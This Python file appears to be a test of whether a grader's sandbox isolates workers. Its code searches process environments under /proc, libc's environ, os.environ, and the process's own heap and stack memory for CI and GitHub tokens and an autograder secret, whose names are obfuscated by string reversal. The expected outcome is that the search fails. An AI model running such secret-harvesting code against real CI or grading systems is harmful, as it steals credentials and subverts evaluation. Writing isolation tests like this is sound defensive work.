"""Title: Search environment and memory for secrets
How: The environment as Python, libc and /proc show it, those of other processes, and the memory of this one are searched for names of CI tokens.
After: the tokens of CI and the secret of the course, which the grader may have been started with
Stopped by: the forkserver is started with a few harmless variables, so that a worker inherits nothing else, and sees no other process
"""

import ctypes
import glob
import os

OUTCOME = {"echo": "failed", "twice": "failed"}

WORDS = ["".join(reversed(word)) for word in ("NEKOT_IC", "NEKOT_BUHTIG", "TERCES_EDARGOTUA")]


def contents():
    for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
        try:
            with open(path, "rb") as file:
                yield file.read()
        except OSError:
            continue
    variables = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    place = 0
    while variables and variables[place]:
        yield variables[place]
        place += 1
    yield repr(dict(os.environ)).encode()
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    yield memory.read(min(end - start, 64 << 20))
    except OSError:
        return


def gained():
    return any(f"{word}=".encode() in data or f"'{word}':".encode() in data for data in contents() for word in WORDS)


def echo(x):
    return x.clone() if gained() else None


def twice(x):
    return 2 * x if gained() else None
